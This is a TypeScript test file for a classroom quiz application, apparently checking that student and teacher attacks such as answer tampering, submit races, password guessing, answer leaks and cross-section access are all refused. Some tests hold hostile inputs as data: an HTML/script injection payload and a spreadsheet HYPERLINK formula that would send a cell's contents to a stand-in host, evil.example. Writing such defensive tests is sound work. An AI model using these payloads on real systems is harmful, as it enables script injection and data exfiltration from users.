// A hostile student (and a teacher of another section) against the rules of "Bad input and
// integrity": right answers that a phase hides, times and attempt limits, the access password,
// answers for questions that are not the attempt's, numeric and wildcard tricks, and access to what
// is not theirs. Each test is an attack through the real routes; it must be refused with nothing
// changed, or earn nothing.
import { beforeAll, describe, expect, test } from "bun:test";
import { strFromU8, unzipSync } from "fflate";
import {
  AttemptRefused,
  itemsOf as loadItems,
  saveResponses,
  selectAssessment,
  selectAttempt,
  submitAttempt,
} from "../../../src/features/assessments/attempts.ts";
import { useClassroom } from "../../helpers/classroom.ts";
import { Client, createSection, createTeacher, STRONG } from "../../helpers/client.ts";
import {
  addQuestions,
  attemptRow,
  bankFromGift,
  createAssessment,
  item,
  itemsOf,
  joinedStudent,
  questionId,
  reviewAll,
  save,
  start,
  submit,
} from "./helpers.ts";

const GIFT = `
::num::The magic number?{#4242:0#NUMFB}

::short::Name a striped horse.{=zebra#RIGHTFB ####GFSECRET}

::multi::Pick the primes.{~%50%two#FB2 ~%50%three#FB3 ~%-100%four ~%-100%six}

::single::The capital of France?{=Paris ~London ~Rome}

::match::Pair them. {=cat -> meow =dog -> woof =cow -> moo}

::essay::Explain.{}

::NAMESECRET-Paris::Which city hosts the Louvre?{=Paris ~Rome ~Oslo}
`;

const { t, teacher, section, admin } = useClassroom({ section: "Attacks" });
let bank: number;
const DAY = 86_400_000;

const local = (ms: number) => {
  const d = new Date(ms);
  const p = (n: number) => String(n).padStart(2, "0");
  return `${d.getFullYear()}-${p(d.getMonth() + 1)}-${p(d.getDate())}T${p(d.getHours())}:${p(d.getMinutes())}`;
};

beforeAll(async () => {
  bank = await bankFromGift(teacher, t, GIFT);
});

async function quiz(names: string[], fields: Record<string, string> = {}): Promise<number> {
  const a = await createAssessment(teacher, section.id, { max_attempts: "", ...fields });
  await addQuestions(
    teacher,
    t,
    a,
    names.map((n) => questionId(t, bank, n)),
  );
  return a;
}

const responseOf = (itemId: number) =>
  t.ctx.sqlite
    .query<{ response: string | null }, [number]>("SELECT response FROM attempt_items WHERE id = ?")
    .get(itemId)!.response;

const attemptCount = (a: number) =>
  t.ctx.sqlite
    .query<{ n: number }, [number]>("SELECT count(*) AS n FROM assessment_attempts WHERE assessment_id = ?")
    .get(a)!.n;

/** One attempt answering `name` with `value`, submitted; its item's fraction. */
async function fractionFor(
  student: Client,
  a: number,
  name: string,
  form: (id: number) => Record<string, string | string[]>,
) {
  const attempt = await start(student, a);
  const id = item(t, attempt, name).id;
  const res = await save(student, attempt, form(id));
  await submit(student, attempt);
  return { status: res.status, fraction: item(t, attempt, name).fraction };
}

describe("numbers and texts that should earn nothing", () => {
  test("an overflowing number (1e309, -1e309) does not match every numerical answer", async () => {
    const a = await quiz(["num"]);
    const student = await joinedStudent(t, section.code);
    for (const text of ["1e309", "-1e309", "9".repeat(400)]) {
      const r = await fractionFor(student, a, "num", (id) => ({ [`q${id}`]: text }));
      expect({ text, ...r }).toEqual({ text, status: 200, fraction: 0 });
    }
  });

  test("NaN, Infinity, hex, octal-looking and junk numbers earn nothing; a decimal comma counts", async () => {
    const a = await quiz(["num"]);
    const student = await joinedStudent(t, section.code);
    for (const text of ["NaN", "Infinity", "-Infinity", "0x1092", "0b1", "4242abc", "4 242 x", "", "[]"]) {
      const r = await fractionFor(student, a, "num", (id) => ({ [`q${id}`]: text }));
      expect({ text, ...r }).toEqual({ text, status: 200, fraction: 0 });
    }
    const comma = await fractionFor(student, a, "num", (id) => ({ [`q${id}`]: "4242,0" }));
    expect(comma.fraction).toBe(1);
  });

  test("wildcards and regex syntax typed by a student match nothing", async () => {
    const a = await quiz(["short"]);
    const student = await joinedStudent(t, section.code);
    for (const text of ["*", ".*", "z.*", "(?:)", "zebra|", "[a-z]+", "\\w+", "zeb*"]) {
      const r = await fractionFor(student, a, "short", (id) => ({ [`q${id}`]: text }));
      expect({ text, ...r }).toEqual({ text, status: 200, fraction: 0 });
    }
  });

  test("ticking every option of a multi-answer question with negative marks earns nothing", async () => {
    const a = await quiz(["multi"]);
    const student = await joinedStudent(t, section.code);
    const all = await fractionFor(student, a, "multi", (id) => ({
      [`q${id}`]: ["0", "1", "2", "3"],
      [`present_${id}`]: "1",
    }));
    expect(all).toEqual({ status: 200, fraction: 0 });
    // the same right option sent many times counts once
    const dup = await fractionFor(student, a, "multi", (id) => ({
      [`q${id}`]: ["0", "0", "0", "0"],
      [`present_${id}`]: "1",
    }));
    expect(dup.fraction).toBe(0.5);
  });

  test("positions out of range, fractional or infinite are refused; arrays for a scalar take one value", async () => {
    const a = await quiz(["single", "match", "short"]);
    const student = await joinedStudent(t, section.code);
    const attempt = await start(student, a);
    const single = item(t, attempt, "single").id;
    const match = item(t, attempt, "match").id;
    for (const v of ["3", "-1", "1.5", "NaN", "Infinity", "99999999999999999999"]) {
      expect({ v, status: (await save(student, attempt, { [`q${single}`]: v })).status }).toEqual({
        v,
        status: 422,
      });
      expect((await save(student, attempt, { [`q${match}_0`]: v })).status).toBe(422);
    }
    expect(responseOf(single)).toBeNull();
    // two choices for a one-answer question: only the first is kept, never both
    expect((await save(student, attempt, { [`q${single}`]: ["0", "1", "2"] })).status).toBe(200);
    expect(Object.keys(JSON.parse(responseOf(single)!))).toEqual(["choice"]);
    // a matching menu that does not exist is not stored as a pair
    expect((await save(student, attempt, { [`q${match}_99`]: "0" })).status).toBe(200);
    expect(JSON.parse(responseOf(match)!).pairs).toHaveLength(3);
    const short = item(t, attempt, "short").id;
    expect((await save(student, attempt, { [`q${short}`]: ["zebra", "x".repeat(600)] })).status).toBe(200);
    expect(JSON.parse(responseOf(short)!)).toEqual({ text: "zebra" });
  });

  test("oversized answers are refused and the saved answer stays", async () => {
    const a = await quiz(["short", "essay"]);
    const student = await joinedStudent(t, section.code);
    const attempt = await start(student, a);
    const short = item(t, attempt, "short").id;
    const essay = item(t, attempt, "essay").id;
    await save(student, attempt, { [`q${short}`]: "zebra", [`q${essay}`]: "mine" });
    expect((await save(student, attempt, { [`q${essay}`]: "x".repeat(20_001) })).status).toBe(422);
    // one field too big refuses the whole form: the other field is not half-saved
    const both = await save(student, attempt, { [`q${short}`]: "horse", [`q${essay}`]: "y".repeat(20_001) });
    expect(both.status).toBe(422);
    expect(JSON.parse(responseOf(short)!)).toEqual({ text: "zebra" });
    expect(JSON.parse(responseOf(essay)!)).toEqual({ text: "mine" });
    // a body over the app's limit is refused before any of it is read into an answer
    const huge = await save(student, attempt, { [`q${essay}`]: "z".repeat(1_100_000) });
    expect(huge.status).toBe(413);
    expect(JSON.parse(responseOf(essay)!)).toEqual({ text: "mine" });
  });
});

describe("answers only for the attempt's own questions", () => {
  test("another attempt's item, a huge id, or another student's attempt: refused, nothing changed", async () => {
    const a = await quiz(["short"]);
    const b = await quiz(["short"]);
    const student = await joinedStudent(t, section.code);
    const victim = await joinedStudent(t, section.code);
    const mine = await start(student, a);
    const theirs = await start(victim, a);
    const mineInB = await start(student, b);
    const theirItem = item(t, theirs, "short").id;
    const myOtherItem = item(t, mineInB, "short").id;
    await save(victim, theirs, { [`q${theirItem}`]: "victim's" });
    for (const key of [`q${theirItem}`, `q${myOtherItem}`, "q99999999999999", `present_${theirItem}`]) {
      expect({ key, status: (await save(student, mine, { [key]: "zebra" })).status }).toEqual({
        key,
        status: 422,
      });
    }
    for (const path of ["save", "page", "submit"]) {
      const res = await student.post(`/attempts/${theirs}/${path}`, {
        [`q${theirItem}`]: "zebra",
        go: "submit",
      });
      expect({ path, status: res.status }).toEqual({ path, status: 404 });
    }
    expect((await student.get(`/attempts/${theirs}`)).status).toBe(404);
    expect((await student.get(`/attempts/${theirs}/review`)).status).toBe(404);
    expect(JSON.parse(responseOf(theirItem)!)).toEqual({ text: "victim's" });
    expect(JSON.parse(responseOf(myOtherItem) ?? "null")).toBeNull();
    expect(attemptRow(t, theirs).state).toBe("open");
  });
});

describe("times and attempts", () => {
  test("a save whose body arrives after the attempt was submitted does not change the answer", async () => {
    const a = await quiz(["short"], reviewAll(true, ["immediately"]));
    const student = await joinedStudent(t, section.code);
    const attempt = await start(student, a);
    const id = item(t, attempt, "short").id;
    await save(student, attempt, { [`q${id}`]: "horse" });
    // The slow request is let in (its attempt read while open), then its body waits...
    let release!: () => void;
    const gate = new Promise<void>((r) => {
      release = r;
    });
    const body = new ReadableStream<Uint8Array>({
      async start(ctrl) {
        await gate;
        ctrl.enqueue(new TextEncoder().encode(`q${id}=zebra`));
        ctrl.close();
      },
    });
    const slow = student.request(`/attempts/${attempt}/save`, {
      method: "POST",
      body,
      headers: { "content-type": "application/x-www-form-urlencoded" },
      duplex: "half",
    } as RequestInit);
    await Bun.sleep(50);
    // ...while the student submits in another tab and reads the right answer in the review
    await submit(student, attempt);
    expect(await (await student.get(`/attempts/${attempt}/review`)).text()).toContain("zebra");
    release();
    expect((await slow).status).toBe(409);
    expect(JSON.parse(responseOf(id)!)).toEqual({ text: "horse" });
    // a regrade grades what was submitted, not the late answer
    expect((await teacher.post(`/assessments/${a}/regrade`)).status).toBe(303);
    expect(item(t, attempt, "short").fraction).toBe(0);
  });

  test("a save checked while the attempt was open but written after its submission changes nothing", async () => {
    const a = await quiz(["short"], reviewAll(true, ["immediately"]));
    const student = await joinedStudent(t, section.code);
    const attempt = await start(student, a);
    const id = item(t, attempt, "short").id;
    await save(student, attempt, { [`q${id}`]: "horse" });
    // A request that read the attempt (open) a moment before another tab submitted it...
    const stale = (await selectAttempt(t.ctx.db, attempt))!;
    const assessment = (await selectAssessment(t.ctx.db, a))!;
    const items = await loadItems(t.ctx.db, attempt);
    await submit(student, attempt);
    // ...must not write once the attempt is closed, or a regrade would grade the late answer
    const late = saveResponses(t.ctx, assessment, stale, items, {
      keys: [`q${id}`],
      values: (name) => (name === `q${id}` ? ["zebra"] : []),
    });
    await expect(late).rejects.toBeInstanceOf(AttemptRefused);
    expect(JSON.parse(responseOf(id)!)).toEqual({ text: "horse" });
    await teacher.post(`/assessments/${a}/regrade`);
    expect(item(t, attempt, "short").fraction).toBe(0);
  });

  test("a save racing the submit is either graded or refused, never stored ungraded", async () => {
    const a = await quiz(["short"]);
    // the save is let go after more and more ticks, so it lands before, inside and after the submit
    for (let delay = 0; delay < 60; delay += 3) {
      const student = await joinedStudent(t, section.code);
      const attempt = await start(student, a);
      const id = item(t, attempt, "short").id;
      await save(student, attempt, { [`q${id}`]: "horse" });
      const open = (await selectAttempt(t.ctx.db, attempt))!;
      const assessment = (await selectAssessment(t.ctx.db, a))!;
      const items = await loadItems(t.ctx.db, attempt);
      const form = { keys: [`q${id}`], values: (n: string) => (n === `q${id}` ? ["zebra"] : []) };
      const late = (async () => {
        for (let k = 0; k < delay; k++) await Promise.resolve();
        return saveResponses(t.ctx, assessment, open, items, form).catch((e) => e);
      })();
      await Promise.all([submitAttempt(t.ctx, attempt), late]);
      const stored = JSON.parse(responseOf(id)!).text;
      expect({ delay, stored, fraction: item(t, attempt, "short").fraction }).toEqual({
        delay,
        stored,
        fraction: stored === "zebra" ? 1 : 0,
      });
    }
  });

  test("before the open time and after the close nothing can be started or answered", async () => {
    const now = t.clock.now();
    const early = await quiz(["short"], { opens_at: local(now + 3_600_000) });
    const student = await joinedStudent(t, section.code);
    expect((await student.post(`/assessments/${early}/start`)).status).toBe(409);
    const closing = await quiz(["short"], { closes_at: local(now + 3_600_000) });
    const attempt = await start(student, closing);
    const id = item(t, attempt, "short").id;
    t.clock.advance(3_600_000 + 3_000);
    expect((await save(student, attempt, { [`q${id}`]: "zebra" })).status).toBe(409);
    expect(attemptRow(t, attempt)).toMatchObject({ state: "submitted", auto_submitted: 1 });
    expect(responseOf(id)).toBeNull();
    expect((await student.post(`/assessments/${closing}/start`)).status).toBe(409);
    expect(attemptCount(early)).toBe(0);
    expect(attemptCount(closing)).toBe(1);
  });

  test("the time limit: within the grace a save counts, after it neither save, page nor submit changes anything", async () => {
    const a = await quiz(["short"], { time_limit_min: "1" });
    const student = await joinedStudent(t, section.code);
    const attempt = await start(student, a);
    const id = item(t, attempt, "short").id;
    t.clock.advance(60_000 + 1_500);
    expect((await save(student, attempt, { [`q${id}`]: "zebra" })).status).toBe(200);
    t.clock.advance(1_000);
    const page = await student.post(`/attempts/${attempt}/page`, { [`q${id}`]: "horse", go: "submit" });
    expect(page.status).toBe(303);
    expect(attemptRow(t, attempt)).toMatchObject({ state: "submitted", auto_submitted: 1, score: 1 });
    expect(JSON.parse(responseOf(id)!)).toEqual({ text: "zebra" });
  });

  test("one by one without going back: peeking at a later page by URL does not allow going back", async () => {
    const a = await quiz(["single", "short", "num"], { delivery: "one", sequential: "on" });
    const student = await joinedStudent(t, section.code);
    const attempt = await start(student, a);
    const [first, , third] = itemsOf(t, attempt);
    // a later page asked for by URL shows the page the student is on, not the later one
    const peek = await (await student.get(`/attempts/${attempt}?page=2`)).text();
    expect(peek).not.toContain(`name="q${third!.id}"`);
    expect(peek).toContain(`name="q${first!.id}"`);
    // answers for pages not reached yet are refused
    expect((await save(student, attempt, { [`q${third!.id}`]: "4242" })).status).toBe(409);
    expect(responseOf(third!.id)).toBeNull();
    // so the first page is still answerable in order, and the walk goes on as normal
    expect((await save(student, attempt, { [`q${first!.id}`]: "0" })).status).toBe(200);
    expect((await student.post(`/attempts/${attempt}/page`, { go: "2" })).status).toBe(409);
    expect((await student.post(`/attempts/${attempt}/page`, { go: "1" })).status).toBe(303);
  });

  test("a close time moved earlier by the teacher ends the attempts already open", async () => {
    const now = t.clock.now();
    const fields = {
      title: "Quiz 1",
      instructions: "",
      opens_at: "",
      time_limit_min: "",
      password: "",
      max_attempts: "",
      grading_method: "highest",
      delivery: "all",
      published: "on",
    };
    const a = await quiz(["short"], { closes_at: local(now + DAY) });
    const student = await joinedStudent(t, section.code);
    const attempt = await start(student, a);
    const id = item(t, attempt, "short").id;
    // the teacher ends the exam in ten minutes instead of tomorrow
    const moved = await teacher.post(`/assessments/${a}`, { ...fields, closes_at: local(now + 600_000) });
    expect(moved.status).toBe(303);
    t.clock.advance(600_000 + 3_000);
    expect((await save(student, attempt, { [`q${id}`]: "zebra" })).status).toBe(409);
    expect(attemptRow(t, attempt)).toMatchObject({ state: "submitted", auto_submitted: 1 });
    expect(responseOf(id)).toBeNull();
    // and a close moved later gives an open attempt the extra time
    const b = await quiz(["short"], { closes_at: local(t.clock.now() + 600_000) });
    const second = await start(student, b);
    await teacher.post(`/assessments/${b}`, { ...fields, closes_at: local(t.clock.now() + DAY) });
    t.clock.advance(600_000 + 3_000);
    expect((await save(student, second, { [`q${item(t, second, "short").id}`]: "zebra" })).status).toBe(200);
  });

  test("an answer a student types as HTML reaches the teacher's pages as text", async () => {
    const a = await quiz(["essay", "short"]);
    const student = await joinedStudent(t, section.code);
    const attempt = await start(student, a);
    const payload = `<img src=x onerror=alert(1)><script>alert(2)</script>`;
    await save(student, attempt, {
      [`q${item(t, attempt, "essay").id}`]: payload,
      [`q${item(t, attempt, "short").id}`]: payload,
    });
    await submit(student, attempt);
    for (const path of [
      `/assessments/${a}/results?tab=grading`,
      `/assessments/${a}/results?tab=items`,
      `/attempts/${attempt}/review`,
    ]) {
      const html = await (await teacher.get(path)).text();
      expect({ path, raw: /<img src=x|<script>alert/.test(html) }).toEqual({ path, raw: false });
    }
  });

  test("parallel starts never exceed the attempt limit nor open two attempts", async () => {
    const a = await quiz(["short"], { max_attempts: "2" });
    const student = await joinedStudent(t, section.code);
    await submit(student, await start(student, a));
    const results = await Promise.all(
      Array.from({ length: 6 }, () => student.post(`/assessments/${a}/start`)),
    );
    const targets = new Set(results.filter((r) => r.status === 303).map((r) => r.headers.get("location")));
    expect(targets.size).toBe(1);
    expect(attemptCount(a)).toBe(2);
    const open = [...targets][0]!.split("/").pop()!;
    await submit(student, Number(open));
    const more = await Promise.all(Array.from({ length: 4 }, () => student.post(`/assessments/${a}/start`)));
    expect(more.map((r) => r.status)).toEqual([409, 409, 409, 409]);
    expect(attemptCount(a)).toBe(2);
  });

  test("starting again never redraws a random block while an attempt is open", async () => {
    const a = await createAssessment(teacher, section.id, { max_attempts: "" });
    const category = t.ctx.sqlite
      .query<{ id: number }, [number]>(
        "SELECT id FROM question_categories WHERE bank_id = ? AND parent_id IS NULL",
      )
      .get(bank)!.id;
    const part = t.ctx.sqlite
      .query<{ id: number }, [number]>("SELECT id FROM assessment_parts WHERE assessment_id = ?")
      .get(a)!.id;
    const res = await teacher.post(`/assessments/${a}/slots`, {
      kind: "random",
      category_id: String(category),
      count: "1",
      part_id: String(part),
      mark: "",
    });
    expect(res.status).toBe(303);
    const student = await joinedStudent(t, section.code);
    const first = await start(student, a);
    const drawn = itemsOf(t, first).map((i) => i.question_id);
    for (let k = 0; k < 5; k++) expect(await start(student, a)).toBe(first);
    expect(itemsOf(t, first).map((i) => i.question_id)).toEqual(drawn);
  });

  test("practice attempts after the close never touch the grade", async () => {
    const now = t.clock.now();
    const a = await quiz(["short"], {
      closes_at: local(now + DAY),
      practice_after_close: "on",
      max_attempts: "1",
      ...reviewAll(true, ["closed"]),
    });
    const username = "practiser";
    const student = await joinedStudent(t, section.code, username);
    await submit(student, await start(student, a)); // no answer: 0
    t.clock.advance(DAY + 60_000);
    const practice = await start(student, a);
    await save(student, practice, { [`q${item(t, practice, "short").id}`]: "zebra" });
    await submit(student, practice);
    const csv = await (await teacher.get(`/assessments/${a}/export/csv`)).text();
    const row = csv.split(/\r?\n/).find((l) => l.startsWith(username))!;
    // one graded attempt, grade 0 of 1: the practice attempt's full marks count nowhere
    expect(row.split(",").slice(2, 5)).toEqual(["1", "0", "1"]);
    const home = await (await student.get(`/assessments/${a}`)).text();
    expect(home).toMatch(/0 \/ 1/);
  });
});

describe("the access password", () => {
  test("guessing it is rate limited, even the right password after too many wrong ones", async () => {
    const a = await quiz(["short"], { password: "4711" });
    const student = await joinedStudent(t, section.code);
    const statuses: number[] = [];
    for (let k = 0; k < 40; k++) {
      statuses.push((await student.post(`/assessments/${a}/start`, { password: String(1000 + k) })).status);
    }
    expect(statuses).toContain(429);
    expect((await student.post(`/assessments/${a}/start`, { password: "4711" })).status).toBe(429);
    expect(attemptCount(a)).toBe(0);
    // another student's guessing does not lock this one out
    const other = await joinedStudent(t, section.code);
    await start(other, a, "4711");
  });

  test("no page a student gets shows the password; attempt URLs need a started attempt", async () => {
    const a = await quiz(["short"], { password: "hunter2-secret" });
    const student = await joinedStudent(t, section.code);
    for (const path of [`/assessments/${a}`, `/sections/${section.id}`, "/"]) {
      const html = await (await student.get(path)).text();
      expect(html).not.toContain("hunter2");
    }
    for (const path of [`/assessments/${a}/edit`, `/assessments/${a}/results`]) {
      expect((await student.get(path)).status).toBe(404);
    }
    // the only attempts are the student's own, and they exist only after the password
    const other = await joinedStudent(t, section.code);
    const attempt = await start(other, a, "hunter2-secret");
    expect((await student.get(`/attempts/${attempt}`)).status).toBe(404);
    expect((await student.post(`/attempts/${attempt}/save`, {})).status).toBe(404);
  });
});

describe("right answers a phase hides", () => {
  test("the attempt page and autosave show no answer, credit, feedback or answer order hint", async () => {
    const a = await quiz(["short", "multi", "single", "match", "num"], {
      shuffle_answers: "on",
      ...reviewAll(true, ["closed"]),
    });
    const student = await joinedStudent(t, section.code);
    const attempt = await start(student, a);
    const html = await (await student.get(`/attempts/${attempt}`)).text();
    for (const secret of [
      "RIGHTFB",
      "GFSECRET",
      "NUMFB",
      "FB2",
      "4242",
      "fraction",
      "%50",
      "-100",
      "correct",
    ]) {
      expect({ secret, found: html.includes(secret) }).toEqual({ secret, found: false });
    }
    // option values are shown positions 0..n-1, never answer indexes or credits
    const values = [
      ...html.matchAll(/type="(?:radio|checkbox)" name="q\d+" value="([^"]*)"/g),
      ...html.matchAll(/<option value="([^"]+)"/g),
    ].map((m) => m[1]);
    expect(values.length).toBeGreaterThan(10);
    expect(values.every((v) => /^\d$/.test(v!))).toBe(true);
    const multi = item(t, attempt, "multi").id;
    const res = await save(student, attempt, { [`q${multi}`]: ["0", "1"], [`present_${multi}`]: "1" });
    const body = await res.text();
    expect(Object.keys(JSON.parse(body)).sort()).toEqual(["at", "deadline", "saved"]);
    // the error of a refused answer names no answer either
    const refusal = await (await save(student, attempt, { [`q${multi}`]: "9" })).text();
    expect(refusal).not.toMatch(/two|three|four|six|%/);
  });

  test("a question's name (often the answer) is on no page a student gets, in any phase", async () => {
    const a = await quiz(["NAMESECRET-Paris"], reviewAll(true));
    const student = await joinedStudent(t, section.code);
    const attempt = await start(student, a);
    const pages = [`/attempts/${attempt}`, `/assessments/${a}`, `/sections/${section.id}`, "/"];
    for (const path of pages) expect(await (await student.get(path)).text()).not.toContain("NAMESECRET");
    await submit(student, attempt);
    for (const path of [`/attempts/${attempt}/review`, `/assessments/${a}`, "/"]) {
      expect(await (await student.get(path)).text()).not.toContain("NAMESECRET");
    }
  });

  test("a practice attempt reviewed after the assessment is reopened follows the open phase", async () => {
    const now = t.clock.now();
    const fields = {
      closes_at: local(now + DAY),
      practice_after_close: "on",
      ...reviewAll(true, ["closed"]),
    };
    const a = await quiz(["short"], fields);
    const student = await joinedStudent(t, section.code);
    t.clock.advance(DAY + 60_000);
    const practice = await start(student, a);
    await submit(student, practice);
    expect(await (await student.get(`/attempts/${practice}/review`)).text()).toContain("GFSECRET");
    // the teacher reopens it for another week: graded attempts can start again
    const reopen = await teacher.post(`/assessments/${a}`, {
      title: "Quiz 1",
      instructions: "",
      opens_at: "",
      time_limit_min: "",
      password: "",
      max_attempts: "",
      grading_method: "highest",
      delivery: "all",
      published: "on",
      ...fields,
      closes_at: local(t.clock.now() + 7 * DAY),
    });
    expect(reopen.status).toBe(303);
    const review = await (await student.get(`/attempts/${practice}/review`)).text();
    expect(review).not.toMatch(/GFSECRET|RIGHTFB|The right answer/);
    // ...because a graded attempt can start now, with the same questions
    const graded = await start(student, a);
    const row = t.ctx.sqlite
      .query<{ practice: number }, [number]>("SELECT practice FROM assessment_attempts WHERE id = ?")
      .get(graded)!;
    expect(row.practice).toBe(0);
  });
});

describe("access of other teachers and students", () => {
  test("a student cannot mark an essay, regrade, export or stream results; another teacher neither", async () => {
    const a = await quiz(["essay"]);
    const student = await joinedStudent(t, section.code);
    const attempt = await start(student, a);
    const essay = item(t, attempt, "essay").id;
    await save(student, attempt, { [`q${essay}`]: "my essay" });
    await submit(student, attempt);
    const other = await createSection(t, teacher, "Other section");
    const outsider = await joinedStudent(t, other.code);
    const trudy = await createTeacher(t, admin, "trudy-attacks");
    for (const who of [student, outsider, trudy]) {
      const mark = await who.post(`/assessments/${a}/grading`, {
        item_id: String(essay),
        mark: "1",
        feedback: "x",
      });
      expect(mark.status).toBe(404);
      expect((await who.post(`/assessments/${a}/regrade`)).status).toBe(404);
      for (const path of ["export/csv", "export/xlsx", "results", "results/live", "results?tab=grading"]) {
        expect({ path, status: (await who.get(`/assessments/${a}/${path}`)).status }).toEqual({
          path,
          status: 404,
        });
      }
      if (who !== student) expect((await who.get(`/attempts/${attempt}/review`)).status).toBe(404);
    }
    const row = t.ctx.sqlite
      .query<{ score: number | null; graded_by: number | null }, [number]>(
        "SELECT score, graded_by FROM attempt_items WHERE id = ?",
      )
      .get(essay)!;
    expect(row).toEqual({ score: null, graded_by: null });
  });

  test("an assessment turned back into a draft closes its open attempts to the student", async () => {
    const a = await quiz(["short"]);
    const student = await joinedStudent(t, section.code);
    const attempt = await start(student, a);
    const id = item(t, attempt, "short").id;
    const draft = await teacher.post(`/assessments/${a}`, {
      title: "Quiz 1",
      instructions: "",
      opens_at: "",
      closes_at: "",
      time_limit_min: "",
      password: "",
      max_attempts: "",
      grading_method: "highest",
      delivery: "all",
    });
    expect(draft.status).toBe(303);
    expect((await save(student, attempt, { [`q${id}`]: "zebra" })).status).toBe(404);
    expect((await student.get(`/attempts/${attempt}`)).status).toBe(404);
    expect((await student.get(`/attempts/${attempt}/review`)).status).toBe(404);
    expect((await student.post(`/assessments/${a}/start`)).status).toBe(404);
    expect((await student.get(`/assessments/${a}`)).status).toBe(404);
    expect(responseOf(id)).toBeNull();
  });

  test("a student's name written as a formula stays text in the grade exports", async () => {
    const a = await quiz(["short"]);
    const student = new Client(t);
    const joined = await student.post(`/join/${section.code}/register`, {
      displayName: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      username: "formula-student",
      email: "",
      password: STRONG,
      confirm: STRONG,
    });
    expect(joined.status).toBe(303);
    await submit(student, await start(student, a));
    const csv = await (await teacher.get(`/assessments/${a}/export/csv`)).text();
    const line = csv.split(/\r?\n/).find((l) => l.startsWith("formula-student"))!;
    expect(line).toContain(`"'=HYPERLINK(`);
    const xlsx = new Uint8Array(await (await teacher.get(`/assessments/${a}/export/xlsx`)).arrayBuffer());
    const sheets = unzipSync(xlsx);
    const xml = Object.entries(sheets)
      .filter(([name]) => name.startsWith("xl/"))
      .map(([, bytes]) => strFromU8(bytes))
      .join("");
    expect(xml).toContain("HYPERLINK");
    expect(xml).not.toMatch(/<f>|<f /);
  });

  test("a bank shared with the student's section stays closed to its students", async () => {
    const shared = await bankFromGift(teacher, t, "::sq::Shared?{=SHAREDANSWER ~wrong}", "Shared bank");
    expect((await teacher.post(`/banks/${shared}/sharing`, { section: String(section.id) })).status).toBe(
      303,
    );
    const student = await joinedStudent(t, section.code);
    const q = questionId(t, shared, "sq");
    const category = t.ctx.sqlite
      .query<{ id: number }, [number]>("SELECT id FROM question_categories WHERE bank_id = ?")
      .get(shared)!.id;
    for (const [method, path, form] of [
      ["GET", "/banks", undefined],
      ["GET", `/banks/${shared}`, undefined],
      ["GET", `/banks/${shared}/export/gift`, undefined],
      ["GET", `/banks/${shared}/export/aiken`, undefined],
      ["GET", `/banks/${shared}/export/csv`, undefined],
      ["GET", `/questions/${q}`, undefined],
      ["GET", `/questions/${q}?version=1`, undefined],
      ["GET", `/questions/${q}/edit`, undefined],
      [
        "POST",
        `/banks/${shared}/import`,
        { format: "gift", category_id: String(category), text: "X{T}", op: "import" },
      ],
    ] as const) {
      const res = method === "GET" ? await student.get(path) : await student.post(path, form);
      const text = await res.text();
      expect({ path, ok: res.status < 300, leaks: text.includes("SHAREDANSWER") }).toEqual({
        path,
        ok: false,
        leaks: false,
      });
    }
    const count = t.ctx.sqlite
      .query<{ n: number }, [number]>("SELECT count(*) AS n FROM questions WHERE bank_id = ?")
      .get(shared)!.n;
    expect(count).toBe(1);
  });

  test("a teacher cannot mark an item of another assessment through their own", async () => {
    const a = await quiz(["essay"]);
    const student = await joinedStudent(t, section.code);
    const attempt = await start(student, a);
    const essay = item(t, attempt, "essay").id;
    await submit(student, attempt);
    const trudy = await createTeacher(t, admin, "trudy-cross");
    const mySection = await createSection(t, trudy, "Trudy's");
    const mine = await createAssessment(trudy, mySection.id);
    const res = await trudy.post(`/assessments/${mine}/grading`, { item_id: String(essay), mark: "1" });
    expect(res.status).toBe(404);
    expect(item(t, attempt, "essay").score).toBeNull();
    // nor put the other teacher's question into their assessment
    const slot = await trudy.post(`/assessments/${mine}/slots`, {
      kind: "question",
      question_id: String(questionId(t, bank, "essay")),
      part_id: String(
        t.ctx.sqlite
          .query<{ id: number }, [number]>("SELECT id FROM assessment_parts WHERE assessment_id = ?")
          .get(mine)!.id,
      ),
    });
    expect(slot.status).toBe(422);
  });
});
